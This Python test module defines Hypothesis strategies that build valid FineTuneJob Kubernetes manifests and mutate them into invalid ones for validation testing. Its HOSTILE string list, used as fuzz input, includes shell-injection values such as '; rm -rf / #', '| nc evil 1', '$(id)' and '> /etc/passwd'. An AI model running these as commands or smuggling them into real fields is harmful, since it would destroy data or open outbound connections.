"""Hypothesis strategies: valid FineTuneJob manifests from the spec's schema, and mutations that break them.

`valid_manifests()` draws every field from its schema node (types, ranges, lengths, enums), then removes
what a cross-field rule forbids (the Python twin of each CEL rule in rules.py names the field to drop), so
what comes out is valid by construction; the suite then checks that every layer agrees it is.
`mutations(manifest)` draws one change that must make a manifest invalid, with the field it breaks and the
earliest layer able to say so.
"""

from __future__ import annotations

import copy
import math
from dataclasses import dataclass
from functools import cache, lru_cache
from typing import Any

from hypothesis import assume
from hypothesis import strategies as st

from finetune_contract.rules import BOTH_ENV_MESSAGE, SECRET_NAME_MESSAGE, TOKEN_SECRET_MESSAGE
from finetune_operator.api import InvalidFineTuneJob
from finetune_operator.api.rules import NAME_MAX_LENGTH, RULES
from finetune_operator.api.validation import parse_spec

from . import schema as sch
from .pipeline import Expectation
from .schema import Node

API_VERSION = "finetune.dev/v1alpha1"
KIND = "FineTuneJob"

# --- strings ----------------------------------------------------------------------------------
# What a user can type that breaks naive code: shell metacharacters, Kubernetes' $(VAR) and the shell's
# ${VAR}, quotes, newlines, unicode (combining marks, right-to-left, emoji, NUL-free control chars).
SHELL = [";", "|", "&", "$(", ")", "`", ">", "<", "'", '"', "\\", "\n", "*", "~", "#"]
HOSTILE = [
    "$(HOME)", "${HOME}", "$(MASTER_ADDR)", "$(FINETUNE_JOB_NAME)", "$$(HOME)", "$", "$$", "$(", "a$(b",
    "; rm -rf / #", "| nc evil 1", "& whoami", "`id`", "$(id)", "> /etc/passwd", "< /dev/zero",
    "'quoted'", '"double"', "line\nbreak", "tab\there", "--help", "-c", "sh -c 'id'",
    "模型", "ünïcödé", "\u202eevil", "e\u0301", "🙂🚀", "\u00a0nbsp", "%s%n", "{{ .Values }}", "null", "~",
]


@cache
def text(min_size: int = 0, max_size: int = 64) -> st.SearchStrategy[str]:
    """Any string in the length bounds, hostile ones often."""
    max_size = min(max_size, 300)
    pieces = st.lists(st.sampled_from(HOSTILE + SHELL) | st.text(max_size=8), max_size=4).map("".join)
    plain = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=min(max_size, 40))
    return (pieces | plain | st.sampled_from(HOSTILE)).map(lambda s: _fit(s, min_size, max_size))


def _fit(s: str, lo: int, hi: int) -> str:
    s = s[:hi]
    return s + "x" * max(0, lo - len(s))


_LOWER = "abcdefghijklmnopqrstuvwxyz"
_DIGITS = "0123456789"
# Built from text() rather than from_regex, which is several times slower to draw from.
_DNS_LABEL = st.builds(lambda a, b, c: a + b + c, st.sampled_from(_LOWER), st.text(_LOWER + _DIGITS + "-", max_size=14),
                       st.sampled_from(_LOWER + _DIGITS)) | st.sampled_from(_LOWER)
dns_subdomain = st.lists(_DNS_LABEL, min_size=1, max_size=3).map(".".join)
# Worst cases for name limits: exactly 63 and 253 characters.
long_dns_subdomain = st.sampled_from(["a" * 63, ".".join(["b" * 63] * 3) + "." + "c" * 61])
QUANTITIES = ["1", "2", "500m", "1500m", "4Gi", "512Mi", "1Gi", "100M", "0", "1e3", "0.5"]
RESOURCE_NAMES = ["cpu", "memory", "ephemeral-storage", "nvidia.com/gpu", "amd.com/gpu", "example.com/fpga"]
ENV_NAMES = st.builds(lambda a, b: a + b, st.sampled_from(_LOWER.upper() + "_"), st.text(_LOWER.upper() + _DIGITS + "_", max_size=20))
LABEL_KEYS = st.sampled_from(["pool", "kubernetes.io/arch", "node.kubernetes.io/instance-type", "gpu", "team"])
LABEL_VALUES = st.just("") | st.sampled_from(_LOWER + _DIGITS) | st.builds(
    lambda a, b, c: a + b + c, st.sampled_from(_LOWER + _DIGITS), st.text(_LOWER + _DIGITS + "-_.", max_size=20),
    st.sampled_from(_LOWER + _DIGITS))
IMAGES = st.sampled_from(["registry.example/finetune-trainer:1.0", "ghcr.io/acme/trainer@sha256:" + "a" * 64,
                          "localhost:5000/t:latest", "trainer"])
ABSOLUTE_PATHS = st.sampled_from(["/output", "/output/run1", "/mnt/out", "/work/my run", "/out/$(HOME)", "/o/ü"])


def kubernetes_string(kind: str, node: Node) -> st.SearchStrategy[str]:
    table = {
        sch.DNS_SUBDOMAIN: dns_subdomain | long_dns_subdomain,
        sch.QUANTITY: st.sampled_from(QUANTITIES),
        sch.RESOURCE_NAME: st.sampled_from(RESOURCE_NAMES),
        sch.ENV_NAME: ENV_NAMES,
        sch.LABEL_KEY: LABEL_KEYS,
        sch.LABEL_VALUE: LABEL_VALUES,
        sch.ABSOLUTE_PATH: ABSOLUTE_PATHS,
        sch.IMAGE: IMAGES,
        sch.TOLERATION_OPERATOR: st.sampled_from(["Exists", "Equal"]),
        sch.TAINT_EFFECT: st.sampled_from(["NoSchedule", "PreferNoSchedule", "NoExecute"]),
        sch.STORAGE_SIZE: st.sampled_from(["1Gi", "20Gi", "512Mi", "100G", "1.5Ti", "1000000"]),
        sch.SECRET_KEY: st.sampled_from(["token", "HF_TOKEN", "api-key", "a.b_c-1", "." * 1 + "dot", "k" * 253]),
        sch.OBJECT_STORE_URI: st.sampled_from(["s3://bucket/runs/a", "gs://b/x", "s3://b/$(HOME)/ü;rm -rf"]),
    }
    return table[kind] if kind in table else _string(node)


def _string(node: Node) -> st.SearchStrategy[str]:
    return text(node.schema.get("minLength", 0), node.schema.get("maxLength", 64))


# --- numbers ----------------------------------------------------------------------------------


def _bounds(schema: dict[str, Any]) -> tuple[float | None, float | None, bool, bool]:
    lo, hi = schema.get("minimum"), schema.get("maximum")
    xlo, xhi = schema.get("exclusiveMinimum"), schema.get("exclusiveMaximum")
    if isinstance(xlo, int | float) and not isinstance(xlo, bool):
        lo = xlo
    if isinstance(xhi, int | float) and not isinstance(xhi, bool):
        hi = xhi
    return lo, hi, xlo is not None and xlo is not False, xhi is not None and xhi is not False


def _integer(node: Node) -> st.SearchStrategy[int]:
    lo, hi, xlo, xhi = _bounds(node.schema)
    lo = None if lo is None else math.floor(lo) + (1 if xlo else 0)
    hi = None if hi is None else math.ceil(hi) - (1 if xhi else 0)
    # Unbounded fields still get the extremes an int32/int64 Kubernetes field would choke on.
    big = st.sampled_from([2**31 - 1, 2**31, 2**53, 2**63 - 1])
    bounded = st.integers(lo if lo is not None else -(2**40), hi if hi is not None else 2**40)
    edges = [v for v in (lo, hi) if v is not None]
    extra = big.filter(lambda v: (lo is None or v >= lo) and (hi is None or v <= hi)) if hi is None else st.nothing()
    return bounded | (st.sampled_from(edges) if edges else st.nothing()) | extra


def _number(node: Node) -> st.SearchStrategy[float | int]:
    lo, hi, xlo, xhi = _bounds(node.schema)
    floats = st.floats(lo, hi, exclude_min=xlo and lo is not None, exclude_max=xhi and hi is not None,
                       allow_nan=False, allow_infinity=False)
    # An integer is a valid `number` for the API server (and for our strict pydantic floats).
    ints = st.integers(math.ceil(lo) if lo is not None else -1000, math.floor(hi) if hi is not None else 1000).filter(
        lambda v: (lo is None or v > lo or (v == lo and not xlo)) and (hi is None or v < hi or (v == hi and not xhi))
    )
    return floats | ints


# --- values from schema nodes ---------------------------------------------------------------


@cache
def value(node: Node) -> st.SearchStrategy[Any]:
    """A value the schema accepts (cross-field rules aside)."""
    k8s = sch.KUBERNETES_STRINGS.get(node.path)
    if node.kind == "enum":
        return st.sampled_from(node.schema["enum"])
    if node.kind == "boolean":
        return st.booleans()
    if node.kind == "integer":
        return _integer(node)
    if node.kind == "number":
        return _number(node)
    if node.kind == "quantity":
        return st.sampled_from(QUANTITIES) | st.integers(0, 64)
    if node.kind == "string":
        return kubernetes_string(k8s, node) if k8s else _string(node)
    if node.kind == "array":
        lo, hi = node.schema.get("minItems", 0), min(node.schema.get("maxItems", 3), 3)
        return st.lists(value(node.item), min_size=lo, max_size=max(lo, hi))
    if node.kind == "map":
        key_kind = sch.KUBERNETES_KEYS.get(node.path)
        keys = kubernetes_string(key_kind, node) if key_kind else text(1, 32)
        return st.dictionaries(keys, value(node.item), max_size=min(node.schema.get("maxProperties", 3), 3))
    if node.kind == "object":
        required = {k: value(sub) for k, sub in node.properties if k in node.required}
        optional = {k: _optional(sub) for k, sub in node.properties if k not in node.required}
        return st.fixed_dictionaries(required, optional=optional)
    raise AssertionError(node)


def _optional(node: Node) -> st.SearchStrategy[Any]:
    # `key: null` is what kubectl sends for an empty YAML value (`epochs:`); the API server drops a null
    # before defaulting, so it means "unset" for every field, nullable in the model or not.
    return value(node) | st.none()


def _drop_path(spec: dict[str, Any], dotted: str) -> bool:
    """Remove the field named by a problem path (`spec.a.b`, `spec.tolerations[0].key`); False if absent."""
    parts = dotted.replace("[", ".[").split(".")[1:]
    cur: Any = spec
    for part in parts[:-1]:
        key: Any = int(part[1:-1]) if part.startswith("[") else part
        try:
            cur = cur[key]
        except (KeyError, IndexError, TypeError):
            return False
    last = parts[-1]
    if isinstance(cur, dict) and last in cur:
        del cur[last]
        return True
    return False


# Rules whose `field` is one of several the rule reads: drop these too so the rule holds afterwards.
_ALSO_DROP = {".betas": (".eps",), ".focalGamma": (".focalAlpha",), ".margin": (".miner",)}


CREDENTIAL_MESSAGES = {SECRET_NAME_MESSAGE, BOTH_ENV_MESSAGE, TOKEN_SECRET_MESSAGE}  # credential_problems' messages


def repaired(spec: dict[str, Any]) -> dict[str, Any] | None:
    """The spec with every field a cross-field rule rejects removed; None if it cannot be repaired."""
    spec = copy.deepcopy(spec)
    for _ in range(12):
        try:
            parse_spec(spec)
            return spec
        except InvalidFineTuneJob as err:
            changed = False
            # The operator-only credential checks (a clear-text credential, a variable in both env and
            # secretEnv) are cross-field rules too: drop the offending variable.
            for p in err.problems:
                if p.message in CREDENTIAL_MESSAGES:
                    changed |= _drop_path({"spec": spec}, p.path)
                    continue
                rule = next((r for r in RULES if p.path.endswith(r.field) and p.message == r.message), None)
                if rule is None:
                    return spec  # not a cross-field rule: leave it for the layers to judge (and disagree on)
                changed |= _drop_path({"spec": spec}, p.path)
                for extra in _ALSO_DROP.get(rule.field, ()):
                    changed |= _drop_path({"spec": spec}, p.path.removesuffix(rule.field) + extra)
            if not changed:
                return None
    return None


@lru_cache(maxsize=1)
def job_names() -> st.SearchStrategy[str]:
    ok = st.sampled_from(_LOWER) | st.builds(lambda a, b, c: a + b + c, st.sampled_from(_LOWER),
                                              st.text(_LOWER + _DIGITS + "-", max_size=NAME_MAX_LENGTH - 2),
                                              st.sampled_from(_LOWER + _DIGITS))
    edge = st.sampled_from(["a", "a" * NAME_MAX_LENGTH, "x-" * 24 + "yz", "bbc-news"])
    return ok | edge


@st.composite
def valid_manifests(draw: st.DrawFn) -> dict[str, Any]:
    spec = draw(value(sch.spec_node()))
    spec = repaired(spec)
    assume(spec is not None)
    meta: dict[str, Any] = {"name": draw(job_names())}
    if draw(st.booleans()):
        meta["namespace"] = draw(st.sampled_from(["default", "ml", "a" * 63]))
    return {"apiVersion": API_VERSION, "kind": KIND, "metadata": meta, "spec": spec}


# --- mutations: one change that must make a valid manifest invalid ---------------------------


@dataclass(frozen=True)
class Slot:
    """A place in a manifest's spec a mutation can write: `container[key]`, described by `node`."""

    path: str  # problem-path form: spec.a.b, spec.tolerations[0].key, spec.env.FOO
    container_path: tuple[Any, ...]  # keys from the manifest root to the container
    key: Any
    node: Node
    present: bool


def slots(spec: dict[str, Any], node: Node | None = None, path: str = "spec",
          where: tuple[Any, ...] = ("spec",)) -> list[Slot]:
    """Every property of every present object (present or not), every present map entry and list item."""
    node = node or sch.spec_node()
    out: list[Slot] = []
    if node.kind == "object" and isinstance(spec, dict):
        for key, sub in node.properties:
            out.append(Slot(f"{path}.{key}", where, key, sub, key in spec and spec[key] is not None))
            if spec.get(key) is not None:
                out += slots(spec[key], sub, f"{path}.{key}", (*where, key))
    elif node.kind == "map" and isinstance(spec, dict):
        for key, item in spec.items():
            out.append(Slot(f"{path}.{key}", where, key, node.item, True))
            if item is not None:
                out += slots(item, node.item, f"{path}.{key}", (*where, key))
    elif node.kind == "array" and isinstance(spec, list):
        for i, item in enumerate(spec):
            out.append(Slot(f"{path}[{i}]", where, i, node.item, True))
            out += slots(item, node.item, f"{path}[{i}]", (*where, i))
    return out


def _container(manifest: dict[str, Any], where: tuple[Any, ...]) -> Any:
    cur: Any = manifest
    for k in where:
        cur = cur[k]
    return cur


WRONG_TYPES: dict[str, list[Any]] = {
    "string": [1, True, ["x"], {"a": "b"}, 1.5],
    "enum": [1, False, ["balanced"], {"a": 1}],
    "integer": ["3", 1.5, True, [1], {"n": 1}, "three"],
    "number": ["fast", True, [0.1], {"x": 1.0}],
    "boolean": ["true", 1, 0, ["yes"], "yes"],
    "quantity": [1.5, True, ["1"], {"cpu": 1}],
    "object": ["x", 1, ["a"], True],
    "map": ["x", 1, ["a"]],
    "array": ["x", 1, {"a": 1}, True],
}


def _outside(node: Node) -> list[tuple[Any, str]]:
    """Values just outside a node's bounds, with what they break."""
    s = node.schema
    out: list[tuple[Any, str]] = []
    if node.kind in ("integer", "number"):
        lo, hi, xlo, xhi = _bounds(s)
        step = 1 if node.kind == "integer" else 0.5
        if lo is not None:
            out.append((lo if xlo else lo - step, "below the minimum"))
        if hi is not None:
            out.append((hi if xhi else hi + step, "above the maximum"))
    elif node.kind == "string":
        if "maxLength" in s:
            out.append(("y" * (s["maxLength"] + 1), "longer than maxLength"))
            out.append(("$(x)" * (s["maxLength"] // 4 + 1), "hostile and longer than maxLength"))
        if s.get("minLength", 0) > 0:
            out.append(("", "shorter than minLength"))
    elif node.kind == "enum":
        enum = s["enum"]
        out += [(v, "not in the enum") for v in (str(enum[0]).upper(), str(enum[0]) + " ", "turbo", "") if v not in enum]
    return out


def _too_many(node: Node, draw: st.DrawFn) -> list[tuple[Any, str]]:
    s = node.schema
    out: list[tuple[Any, str]] = []
    if node.kind == "array":
        item = draw(value(node.item))
        if "maxItems" in s:
            out.append(([copy.deepcopy(item) for _ in range(s["maxItems"] + 1)], "more items than maxItems"))
        if s.get("minItems", 0) > 0:
            out.append(([copy.deepcopy(item) for _ in range(s["minItems"] - 1)], "fewer items than minItems"))
    elif node.kind == "map" and "maxProperties" in s:
        item = draw(value(node.item))
        out.append(({f"k{i}": copy.deepcopy(item) for i in range(s["maxProperties"] + 1)}, "more entries than maxProperties"))
    return out


@st.composite
def schema_mutation(draw: st.DrawFn, manifest: dict[str, Any]) -> tuple[dict[str, Any], Expectation]:
    """Wrong type, out of range, not in the enum, too long/many, unknown field or missing required field."""
    manifest = copy.deepcopy(manifest)
    choices = slots(manifest["spec"])
    # Hypothesis favours the first choice; the rarer kinds go first so the mix stays even.
    kind = draw(st.sampled_from(["out-of-range", "unknown-field", "missing-required", "wrong-type"]))
    if kind == "missing-required":
        required = [s for s in choices if s.present and s.key in _required_of(s)]
        slot = draw(st.sampled_from(required))
        del _container(manifest, slot.container_path)[slot.key]
        return manifest, Expectation(kind, slot.path, ("schema",))
    if kind == "unknown-field":
        objects = [("spec", ("spec",), sch.spec_node())] + [
            (s.path, (*s.container_path, s.key), s.node) for s in choices if s.present and s.node.kind == "object"
        ]
        path, where, node = draw(st.sampled_from(objects))
        known = [k for k, _ in node.properties]
        key = draw(st.sampled_from([k.lower() for k in known] + [k + "s" for k in known] + ["extra", "Spec", "a b"])
                   .filter(lambda k: k not in known))
        _container(manifest, where)[key] = draw(st.sampled_from([1, "x", {"a": 1}, [1], None, True]).filter(lambda v: v is not None))
        return manifest, Expectation(kind, f"{path}.{key}", ("unknown-field",))
    if kind == "out-of-range":
        candidates = [(s, v, why) for s in choices for v, why in _outside(s.node)]
        candidates += [(s, v, why) for s in choices if s.node.kind in ("array", "map") for v, why in _too_many(s.node, draw)]
        slot, bad, why = draw(st.sampled_from(candidates))
        _container(manifest, slot.container_path)[slot.key] = bad
        return manifest, Expectation(kind, slot.path, ("schema",), f"{why}: {bad!r}"[:120])
    slot = draw(st.sampled_from(choices))
    bad = draw(st.sampled_from(WRONG_TYPES[slot.node.kind]))
    _container(manifest, slot.container_path)[slot.key] = bad
    return manifest, Expectation(kind, slot.path, ("schema",), f"{bad!r} for a {slot.node.kind}")


def _required_of(slot: Slot) -> frozenset[str]:
    parent = sch.spec_node()
    for node in sch.walk(sch.spec_node()):
        if node.kind == "object" and any(sub is slot.node for _, sub in node.properties):
            parent = node
            break
    return parent.required


@lru_cache(maxsize=1)
def rule_violators() -> dict[str, dict[str, Any]]:
    """For every rule in rules.py, a spec fragment that breaks it (from tests/api/test_invalid.py's cases).

    A rule added without an invalid case there fails `test_every_rule_has_a_violator` here (and
    `test_every_rule_is_exercised` there).
    """
    from api.test_invalid import BASE, CASES, python_problems

    out: dict[str, dict[str, Any]] = {}
    for case in CASES:
        for path, message in python_problems(case.manifest).items():
            if message in {r.message for r in RULES} and message not in out:
                fragment = {k: v for k, v in case.manifest["spec"].items() if BASE["spec"].get(k) != v}
                out[message] = {"fragment": fragment, "path": path, "spec": case.manifest["spec"]}
    return out


def _merge(base: Any, patch: Any) -> Any:
    if isinstance(base, dict) and isinstance(patch, dict):
        out = dict(base)
        for k, v in patch.items():
            out[k] = _merge(base.get(k), v) if k in base else copy.deepcopy(v)
        return out
    return copy.deepcopy(patch)


@st.composite
def rule_mutation(draw: st.DrawFn, manifest: dict[str, Any]) -> tuple[dict[str, Any], Expectation]:
    """Break one cross-field rule on top of a random valid manifest (or, if the random context happens to
    satisfy the rule anyway, on top of that manifest's model and dataset only; if even those do, for example
    a dataset with validationSource for a rule about fractions, the violating case's own spec)."""
    violators = rule_violators()
    rule = draw(st.sampled_from(RULES))
    v = violators[rule.message]
    manifest = copy.deepcopy(manifest)
    merged = _merge(manifest["spec"], v["fragment"])
    if not _breaks(merged, rule.message, v["path"]):
        merged = _merge({k: manifest["spec"][k] for k in ("model", "dataset")}, v["fragment"])
    if not _breaks(merged, rule.message, v["path"]):
        merged = copy.deepcopy(v["spec"])
    manifest["spec"] = merged
    return manifest, Expectation("cross-field-rule", v["path"], ("cel",), rule.cel[:80])


def _breaks(spec: dict[str, Any], message: str, path: str) -> bool:
    try:
        parse_spec(spec)
    except InvalidFineTuneJob as err:
        return any(p.path == path and p.message == message for p in err.problems)
    return False


# metadata.name: what the API server refuses for any object, and what our root CEL rules add.
BAD_NAMES = [
    ("", ("request",)), (None, ("request",)), (123, ("request",)),
    ("a" * (NAME_MAX_LENGTH + 1), ("cel",)), ("a" * 63, ("cel",)), ("a" * 64, ("cel",)), ("a" * 253, ("cel",)),
    ("a" * 254, ("request",)), ("b" * 300, ("request",)),
    ("BBC", ("request",)), ("bbc_news", ("request",)), ("1-bbc", ("cel",)), ("bbc.news", ("cel",)),
    ("bbc-", ("request",)), ("-bbc", ("request",)), ("bbç", ("request",)), ("模型", ("request",)),
    ("a;b", ("request",)), ("$(HOME)", ("request",)), ("a b", ("request",)), ("a\nb", ("request",)),
]


@st.composite
def name_mutation(draw: st.DrawFn, manifest: dict[str, Any]) -> tuple[dict[str, Any], Expectation]:
    manifest = copy.deepcopy(manifest)
    kind = draw(st.sampled_from(["bad-name", "bad-name", "bad-name", "missing-name", "apiVersion", "kind", "missing-spec",
                                 "spec-not-object", "unknown-top-level-field"]))
    if kind == "bad-name":
        name, layers = draw(st.sampled_from(BAD_NAMES))
        manifest["metadata"]["name"] = name
        return manifest, Expectation(kind, "metadata.name", layers, repr(name)[:40])
    if kind == "missing-name":
        del manifest["metadata"]["name"]
        return manifest, Expectation(kind, "metadata.name", ("request",))
    if kind == "apiVersion":
        manifest["apiVersion"] = draw(st.sampled_from(["finetune.dev/v1", "v1", "finetune.dev/v1beta1", "", None]))
        return manifest, Expectation(kind, "apiVersion", ("request",))
    if kind == "kind":
        manifest["kind"] = draw(st.sampled_from(["FinetuneJob", "finetunejob", "Job", "", None]))
        return manifest, Expectation(kind, "kind", ("request",))
    if kind == "missing-spec":
        del manifest["spec"]
        return manifest, Expectation(kind, "spec", ("schema",))
    if kind == "spec-not-object":
        manifest["spec"] = draw(st.sampled_from(["model: x", ["model"], 3]))
        return manifest, Expectation(kind, "spec", ("schema",))
    key = draw(st.sampled_from(["specs", "Spec", "metdata", "extra", "hyperparameters"]))
    manifest[key] = {"epochs": 3}
    return manifest, Expectation(kind, key, ("unknown-field",))


def invalid_manifests() -> st.SearchStrategy[tuple[dict[str, Any], Expectation]]:
    return valid_manifests().flatmap(
        lambda m: st.one_of(rule_mutation(m), name_mutation(m), schema_mutation(m), schema_mutation(m))
    )
